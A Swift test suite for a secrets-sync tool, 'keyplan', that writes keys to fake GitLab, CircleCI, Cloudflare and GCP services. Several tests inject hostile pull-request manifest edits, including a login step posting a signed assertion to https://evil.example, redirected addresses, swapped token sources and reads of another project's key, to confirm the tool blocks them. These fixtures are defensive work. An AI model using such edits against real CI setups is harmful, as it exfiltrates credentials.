import Foundation
import Testing

@Suite("A key in a service") struct ServiceTests {
  private static let value = "kp-canary-7f3a9c51"

  /// One service that shows values, one that shows marks, one that shows names alone.
  private static func manifest(_ address: String) -> String {
    """
    version: 1
    connections:
      lab: { type: gitlab, address: "\(address)", token: env://FAKE_TOKEN }
      ring: { type: circleci, address: "\(address)", token: env://FAKE_TOKEN }
      edge: { type: cloudflare, address: "\(address)", token: env://FAKE_TOKEN }
    keys:
      claude: { provider: generic, variable: CLAUDE, source: env://CLAUDE_VALUE }
      shared: { provider: generic, variable: SHARED, source: "lab://acme/app?scope=prod#SHARED" }
    targets:
      ci: { type: gitlab, connection: lab, project: acme/app, scope: prod, keys: { KP_CLAUDE: claude } }
      jobs: { type: circleci, connection: ring, context: 0f1e2d3c-0000-4000-8000-000000000001, keys: { KP_CLAUDE: claude } }
      web: { type: cloudflare, connection: edge, account: a, script: s, keys: { KP_CLAUDE: claude } }
    """
  }

  private static let variables = "/api/v4/projects/acme%2Fapp/variables"
  private static let context = "/api/v2/context/0f1e2d3c-0000-4000-8000-000000000001/environment-variable"

  private func project() throws -> FakeServicesProject {
    let project = try FakeServicesProject(Self.manifest)
    project.sandbox.variables["CLAUDE_VALUE"] = Self.value
    try project.send(
      "POST", Self.variables, #"{"key": "SHARED", "value": "from-gitlab-1", "environment_scope": "prod", "raw": true}"#)
    return project
  }

  @Test func `is planned, applied and watched like any other`() throws {
    let project = try project()
    let sandbox = project.sandbox
    _ = try project.requests()
    let first = try sandbox.keyplan("plan")
    #expect(first.code == 0 && first.out.contains("may contact"), "\(first.out)\(first.err)")
    #expect(first.out.contains("with the preview backend circleci") && !first.out.contains("preview backend gitlab"))
    #expect(first.out.contains("job logs can show the values"), "\(first.out)")
    #expect(try project.requests().contains("[]"), "nothing is sent before it was allowed")

    let applied = try sandbox.keyplan("apply", "--yes")
    #expect(applied.code == 0, "\(applied.out)\(applied.err)")
    #expect(try sandbox.keyplan("get", "shared").out == "from-gitlab-1")
    #expect(try project.send("GET", Self.variables).contains(Self.value))
    #expect(try sandbox.keyplan("plan").code == 0)
    #expect(try sandbox.keyplan("drift").code == 0)
    #expect(try sandbox.keyplan("plan").out.contains("No changes"))
  }

  @Test func `is found changed where the service shows its value or a mark, and found removed everywhere`() throws {
    let project = try project()
    let sandbox = project.sandbox
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)

    try project.send(
      "PUT", Self.variables + "/KP_CLAUDE?filter%5Benvironment_scope%5D=prod", #"{"value": "other-1", "raw": true}"#)
    try project.send("PUT", Self.context + "/KP_CLAUDE", #"{"value": "other-2"}"#)
    let changed = try sandbox.keyplan("drift")
    #expect(changed.code == 2, "\(changed.out)\(changed.err)")
    for name in ["target.ci.KP_CLAUDE", "target.jobs.KP_CLAUDE"] {
      #expect(changed.out.contains(name), "\(changed.out)")
    }
    #expect(!changed.out.contains("target.web"))
    let repaired = try sandbox.keyplan("apply", "--yes")
    #expect(repaired.code == 0, "\(repaired.out)\(repaired.err)")
    #expect(try sandbox.keyplan("drift").code == 0)

    try project.send("DELETE", Self.context + "/KP_CLAUDE")
    try project.send(
      "PATCH", "/client/v4/accounts/a/workers/scripts/s/secrets-bulk", #"{"secrets": {"KP_CLAUDE": null}}"#)
    let removed = try sandbox.keyplan("drift")
    for name in ["target.web.KP_CLAUDE", "target.jobs.KP_CLAUDE"] {
      #expect(removed.out.contains(name), "\(removed.out)")
    }
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)
    #expect(try sandbox.keyplan("drift").code == 0)
  }

  @Test func `is seen in no output and no address, and neither is the token`() throws {
    let project = try project()
    let sandbox = project.sandbox
    sandbox.variables["FAKE_TOKEN"] = "good"
    var all = ""
    for words in [["plan"], ["apply", "--yes", "--verbose"], ["drift", "--json"], ["doctor"], ["plan", "--json"]] {
      let answer = try sandbox.start([Shell.program] + words).wait()
      all += answer.out + answer.err
    }
    all += try project.requests()
    #expect(!all.contains(Self.value) && !all.contains("from-gitlab-1"))
    #expect(!all.contains("Bearer"))
  }

  @Test func `is not asked for by a manifest that leads elsewhere until that was allowed`() throws {
    let project = try project()
    let sandbox = project.sandbox
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)
    _ = try project.requests()
    for (old, new) in [
      ("address: \"\(project.address)\"", "address: \"\(project.address)/elsewhere\""),
      ("token: env://FAKE_TOKEN", "token: env://CLAUDE_VALUE"),
      ("token: env://FAKE_TOKEN }", "token: env://FAKE_TOKEN, masked: true }"),
    ] {
      let text = Self.manifest(project.address)
      let range = try #require(text.range(of: old))
      try sandbox.write(text.replacingCharacters(in: range, with: new), to: "keyplan.yaml")
      let plan = try sandbox.keyplan("plan")
      #expect(plan.out.contains("may contact"), "\(plan.out)\(plan.err)")
      #expect(try !project.requests().contains("api/v4"), "\(new)")
    }
  }

  @Test func `is not written again over what somebody else put there first`() throws {
    let project = try project()
    let sandbox = project.sandbox
    try project.send("PUT", Self.context + "/KP_CLAUDE", #"{"value": "theirs"}"#)
    // The first apply allows the hosts; what is there is seen with the next one.
    #expect(try sandbox.keyplan("apply", "--yes").code != 0)
    let plan = try sandbox.keyplan("plan")
    #expect(
      plan.code == 7 && (plan.out + plan.err).contains("--allow-overwrite"), "\(plan.code)\n\(plan.out)\(plan.err)")
    let asked = try sandbox.keyplan("apply", "--yes", "--allow-overwrite")
    #expect(asked.code == 0, "\(asked.out)\(asked.err)")
    #expect(try sandbox.keyplan("drift").code == 0)
  }

  @Test func `has a connection whose credential doctor verifies`() throws {
    let project = try project()
    let sandbox = project.sandbox
    let before = try sandbox.keyplan("doctor")
    #expect(before.out.contains("was not used: its address and fields are not allowed yet"), "\(before.out)")
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)
    let after = try sandbox.keyplan("doctor")
    #expect(after.out.contains("connection lab (\(project.host)) is signed in as ci-bot"), "\(after.out)")
    sandbox.variables["FAKE_TOKEN"] = "wrong"
    let wrong = try sandbox.keyplan("doctor")
    #expect(wrong.code != 0 && wrong.out.contains("rejected the credential"), "\(wrong.out)")
  }

  @Test func `has a connection of which doctor says nothing while the store cannot be read`() throws {
    let project = try project()
    let sandbox = project.sandbox
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)
    try FileManager.default.moveItem(atPath: sandbox.store, toPath: sandbox.store + ".aside")
    try sandbox.write("not a store", to: ".keyplan/default.db")
    let doctor = try sandbox.keyplan("doctor")
    let why = "was not used: whether it is allowed is in the store, which could not be read"
    #expect(doctor.code != 0 && doctor.out.contains(why), "\(doctor.code) \(doctor.out)")
    #expect(!doctor.out.contains("not allowed yet"), "\(doctor.out)")
  }

  @Test func `is kept by a service as it should be, which a check of its target shows`() throws {
    let project = try project()
    let sandbox = project.sandbox
    let early = try sandbox.keyplan("backend", "check", "ci", "--yes")
    #expect(early.code == 7 && early.err.contains("must not be contacted yet"), "\(early.out)\(early.err)")
    #expect(try !project.requests().contains("PUT"))
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)
    for target in ["ci", "jobs", "web"] {
      let checked = try sandbox.keyplan("backend", "check", target, "--yes")
      #expect(checked.code == 0 && checked.out.contains("All checks passed"), "\(checked.out)\(checked.err)")
    }
    #expect(try !project.send("GET", Self.variables).contains("CHECK"), "the names are removed again")
    #expect(try sandbox.keyplan("drift").code == 0)
  }

  @Test func `is read and written through a description in the manifest`() throws {
    let project = try FakeServicesProject { address in
      """
      version: 1
      backends:
        depot:
          summary: A depot of keys
          connection: { address: { type: url, required: true }, token: { type: secret } }
          target: { project: { type: name, required: true } }
          base: "{address}/api/v4/projects/{project}/variables"
          auth: [{ header: { private-token: "{token}" } }]
          names: { pattern: "[A-Z_0-9]{1,255}" }
          list:
            get: ""
            pages: { header: x-next-page, query: page }
            entries: { each: "", where: { /environment_scope: "*" }, name: /key, value: /value }
          create: { post: "", json: { key: "{name}", value: "{value}", environment_scope: "*", raw: true } }
          update: { put: "/{name}", query: { "filter[environment_scope]": "*" }, json: { value: "{value}", raw: true } }
          delete: { delete: "/{name}", query: { "filter[environment_scope]": "*" } }
      connections:
        shop: { type: depot, address: "\(address)", token: env://FAKE_TOKEN }
      keys:
        claude: { provider: generic, variable: CLAUDE, source: env://CLAUDE_VALUE }
      targets:
        ci: { type: depot, connection: shop, project: acme/app, keys: { KP_CLAUDE: claude } }
      """
    }
    let sandbox = project.sandbox
    sandbox.variables["CLAUDE_VALUE"] = Self.value
    let plan = try sandbox.keyplan("plan")
    #expect(plan.out.contains("with the backend depot sha256:"), "\(plan.out)\(plan.err)")
    let applied = try sandbox.keyplan("apply", "--yes")
    #expect(applied.code == 0, "\(applied.out)\(applied.err)")
    #expect(try project.send("GET", Self.variables).contains(Self.value))
    #expect(try sandbox.keyplan("drift").code == 0)
    #expect(try sandbox.keyplan("backend", "check", "ci", "--yes").code == 0)
    // Another description is not used before it was allowed.
    let manifest = String(decoding: try #require(sandbox.content(of: "keyplan.yaml")), as: UTF8.self)
    try sandbox.write(
      manifest.replacing("{ value: \"{value}\", raw: true }", with: "{ text: \"{value}\" }"), to: "keyplan.yaml")
    _ = try project.requests()
    let changed = try sandbox.keyplan("plan")
    #expect(changed.out.contains("may contact"), "\(changed.out)\(changed.err)")
    #expect(try !project.requests().contains("api/v4"))
  }

  @Test func `is not signed for by a description that a pull request changed`() throws {
    func manifest(_ address: String) -> String {
      """
      version: 1
      backends:
        depot:
          summary: A depot of keys
          connection:
            address: { type: url, required: true }
            token: { type: secret }
            account: { type: secret }
          target: { project: { type: name, required: true } }
          base: "{address}/api/v4/projects/{project}/variables"
          auth:
            - members: { account: { email: /client_email, privateKey: /private_key } }
              sign: { kind: rs256, key: "{privateKey}", claims: { iss: "{email}", aud: depot } }
              header: { private-token: "{token}", x-assertion: "{assertion}" }
          names: { pattern: "[A-Z_0-9]{1,255}" }
          list:
            get: ""
            pages: { header: x-next-page, query: page }
            entries: { each: "", where: { /environment_scope: "*" }, name: /key, value: /value }
          create: { post: "", json: { key: "{name}", value: "{value}", environment_scope: "*", raw: true } }
          update: { put: "/{name}", query: { "filter[environment_scope]": "*" }, json: { value: "{value}", raw: true } }
      connections:
        shop: { type: depot, address: "\(address)", token: env://FAKE_TOKEN, account: env://ACCOUNT }
      keys:
        claude: { provider: generic, variable: CLAUDE, source: env://CLAUDE_VALUE }
      targets:
        ci: { type: depot, connection: shop, project: acme/app, keys: { KP_CLAUDE: claude } }
      """
    }
    let project = try FakeServicesProject(manifest)
    let sandbox = project.sandbox
    sandbox.variables["CLAUDE_VALUE"] = Self.value
    let key = try sandbox.start(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048"]).wait()
    try #require(key.code == 0, "\(key.err)")
    let account = ["client_email": "ci@example", "private_key": key.out]
    sandbox.variables["ACCOUNT"] = String(decoding: try JSONEncoder().encode(account), as: UTF8.self)
    let applied = try sandbox.keyplan("apply", "--yes")
    #expect(applied.code == 0, "\(applied.out)\(applied.err)")
    #expect(try project.send("GET", Self.variables).contains(Self.value))
    #expect(try sandbox.keyplan("drift").code == 0)
    // The job of a pull request.
    sandbox.variables["KEYPLAN_CHECKOUT"] = "untrusted"
    let text = manifest(project.address)
    let login = "login: [{ base: https://evil.example, post: /t, form: { a: \"{assertion}\" }, yields: { t: /t } }]"
    let aws = "kind: sigv4, service: ssm, region: eu, accessKeyId: a, secretAccessKey: \"{token}\" }"
    for (old, new) in [
      ("aud: depot", "aud: elsewhere"), ("iss: \"{email}\"", "iss: \"{email}\", sub: admin"),
      ("members: { account:", "\(login)\n        members: { account:"),
      ("privateKey: /private_key }", "privateKey: /another }"),
      ("address: \"\(project.address)\"", "address: \"\(project.address)/elsewhere\""),
      ("account: env://ACCOUNT", "account: env://CLAUDE_VALUE"),
      (
        "kind: rs256, key: \"{privateKey}\", claims: { iss: \"{email}\", aud: depot } }\n"
          + "        header: { private-token: \"{token}\", x-assertion: \"{assertion}\" }", aws
      ),
    ] {
      let changed = text.replacing(old, with: new)
      try #require(changed != text, "\(old)")
      try sandbox.write(changed, to: "keyplan.yaml")
      _ = try project.requests()
      let plan = try sandbox.keyplan("plan")
      #expect(plan.out.contains("may contact"), "\(new): \(plan.out)\(plan.err)")
      #expect(try !project.requests().contains("api/v4"), "\(new)")
    }
  }

  @Test func `is not looked up with the credential of the machine before that was allowed`() throws {
    func manifest(_ address: String) -> String {
      """
      version: 1
      connections:
        g: { type: gcp, address: "\(address)", oauth: "\(address)" }
      keys:
        claude: { provider: generic, variable: CLAUDE, source: "g://p#CLAUDE" }
      """
    }
    let project = try FakeServicesProject(manifest)
    let sandbox = project.sandbox
    let file =
      #"{"type": "authorized_user", "client_id": "i", "client_secret": "s", "refresh_token": "made-up-refresh"}"#
    try sandbox.write(file, to: "../adc.json")
    sandbox.variables["GOOGLE_APPLICATION_CREDENTIALS"] =
      URL(filePath: sandbox.project).deletingLastPathComponent()
      .appending(path: "adc.json").path
    sandbox.variables["NO_GCE_CHECK"] = "true"
    let plan = try sandbox.keyplan("plan")
    #expect(plan.out.contains("may contact") && plan.out.contains("oauth2.googleapis.com") == false, "\(plan.out)")
    #expect(try !project.requests().contains("/token"))
    _ = try sandbox.keyplan("apply", "--yes")
    #expect(try project.requests().contains("/token"), "allowed, it is asked for")
    // The job of a pull request that sends it elsewhere.
    sandbox.variables["KEYPLAN_CHECKOUT"] = "untrusted"
    let text = manifest(project.address)
    for (old, new) in [
      ("oauth: \"\(project.address)\"", "oauth: \"\(project.address)/elsewhere\""),
      ("address: \"\(project.address)\"", "address: \"\(project.address)/elsewhere\""),
      ("type: gcp,", "type: gcp, sts: \"\(project.address)/elsewhere\","),
    ] {
      try sandbox.write(text.replacing(old, with: new), to: "keyplan.yaml")
      _ = try project.requests()
      let changed = try sandbox.keyplan("plan")
      #expect(changed.out.contains("may contact"), "\(new): \(changed.out)\(changed.err)")
      let asked = try project.requests()
      #expect(!asked.contains("/token") && !asked.contains("projects"), "\(new): \(asked)")
      #expect(!(changed.out + changed.err).contains("made-up-refresh"))
    }
  }

  @Test func `is withdrawn everywhere by destroy, and written again by the next apply`() throws {
    let project = try project()
    let sandbox = project.sandbox
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)
    let asked = try sandbox.keyplan("destroy")
    #expect(asked.code == 64 && asked.out.contains("target.ci"), "\(asked.out)\(asked.err)")
    #expect(try project.send("GET", Self.variables).contains("KP_CLAUDE"))

    let destroyed = try sandbox.keyplan("destroy", "--yes")
    #expect(destroyed.code == 0, "\(destroyed.out)\(destroyed.err)")
    #expect(try !project.send("GET", Self.variables).contains("KP_CLAUDE"))
    #expect(try project.send("GET", Self.variables).contains("SHARED"), "what is not keyplan's stays")
    #expect(try !project.send("GET", Self.context).contains("KP_CLAUDE"))
    #expect(try sandbox.keyplan("get", "claude").code != 0)
    let again = try sandbox.keyplan("destroy", "--yes")
    #expect(again.code == 0 && again.out.contains("No changes"), "\(again.out)\(again.err)")

    let back = try sandbox.keyplan("apply", "--yes")
    #expect(back.code == 0, "\(back.out)\(back.err)")
    #expect(try project.send("GET", Self.variables).contains("KP_CLAUDE"))
    #expect(try sandbox.keyplan("drift").code == 0)
  }

  @Test func `that is protected is kept by destroy until that is asked for`() throws {
    let project = try FakeServicesProject { _ in
      """
      version: 1
      keys: { claude: { provider: generic, variable: CLAUDE, source: env://CLAUDE_VALUE, protected: true } }
      targets: { app: { type: dotenv, path: .env.app, keys: { CLAUDE: claude } } }
      """
    }
    let sandbox = project.sandbox
    sandbox.variables["CLAUDE_VALUE"] = Self.value
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)
    let refused = try sandbox.keyplan("destroy", "--yes")
    #expect(refused.code == 7 && refused.err.contains("claude"), "\(refused.out)\(refused.err)")
    #expect(try sandbox.keyplan("destroy", "--yes", "--allow-forget").code == 0)
    let left = sandbox.content(of: ".env.app").map { String(decoding: $0, as: UTF8.self) } ?? ""
    #expect(!left.contains(Self.value))
  }

  @Test func `is not compared with what a pull request's own places hold`() throws {
    var plans: [String] = []
    // A guess that is right, and one that is wrong.
    for guess in [Self.value, "kp-canary-00000000"] {
      let project = try project()
      let sandbox = project.sandbox
      #expect(try sandbox.keyplan("apply", "--yes").code == 0)
      try project.send(
        "POST", Self.variables,
        #"{"key": "KP_CLAUDE", "value": "\#(guess)", "environment_scope": "guess", "raw": true}"#)
      try sandbox.write(
        Self.manifest(project.address).replacing(
          "project: acme/app, scope: prod", with: "project: acme/app, scope: guess"),
        to: "keyplan.yaml")
      sandbox.variables["KEYPLAN_CHECKOUT"] = "untrusted"
      let plan = try sandbox.keyplan("plan")
      #expect(plan.out.contains("target.ci"), "\(plan.out)\(plan.err)")
      let lines = (plan.out + plan.err).split(separator: "\n")
      plans.append(lines.filter { !$0.contains("kp1-") && !$0.contains("store ") }.joined(separator: "\n"))
    }
    #expect(plans[0] == plans[1])
  }

  @Test func `is not read for a key that a pull request adds`() throws {
    let project = try project()
    let sandbox = project.sandbox
    #expect(try sandbox.keyplan("apply", "--yes").code == 0)
    try sandbox.write(
      Self.manifest(project.address).replacing(
        "targets:",
        with:
          "  stolen: { provider: generic, variable: STOLEN, source: \"lab://other/app?scope=prod#THEIRS\" }\ntargets:"),
      to: "keyplan.yaml")
    sandbox.variables["KEYPLAN_CHECKOUT"] = "untrusted"
    _ = try project.requests()
    let plan = try sandbox.keyplan("plan")
    #expect(plan.out.contains("key.stolen"), "\(plan.out)\(plan.err)")
    #expect(try !project.requests().contains("other%2Fapp"))
  }
}
